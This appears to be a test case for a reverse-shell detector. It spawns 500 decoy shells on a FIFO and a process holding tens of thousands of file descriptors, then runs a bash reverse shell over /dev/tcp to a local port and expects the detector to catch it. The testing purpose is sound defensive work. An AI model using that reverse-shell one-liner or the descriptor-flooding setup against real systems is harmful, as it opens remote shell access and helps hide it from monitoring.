# A10: bash on a connection of its own, beside 500 shells that read what one process writes
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4610

#: prepare
. lib/peers.sh
peer 4610
mkfifo /tmp/a10
for _ in $(seq 500); do sh < /tmp/a10 > /dev/null 2>&1 & done
python3 -c '
import os, resource, time
resource.setrlimit(resource.RLIMIT_NOFILE, (120000, 120000))
writer = os.open("/tmp/a10", os.O_WRONLY)
for _ in range(1000): os.pipe()
for _ in range(97000): os.dup(writer)
open("/tmp/a10.ready", "w").close()
time.sleep(6000)' < /dev/null > /dev/null 2>&1 & fact hog $!; disown
await '[ -e /tmp/a10.ready ]'; scanned
#: act
. lib/peers.sh
act
bash -c "bash -i >& /dev/tcp/127.0.0.1/4610 0>&1" < /dev/null > /dev/null 2>&1 &
who shell 'bash -i'
await 'at $shell 0 socket:* && same $shell 0 $shell 1 && same $shell 1 $shell 2'
#: clean
kill $hog; rm /tmp/a10 /tmp/a10.ready
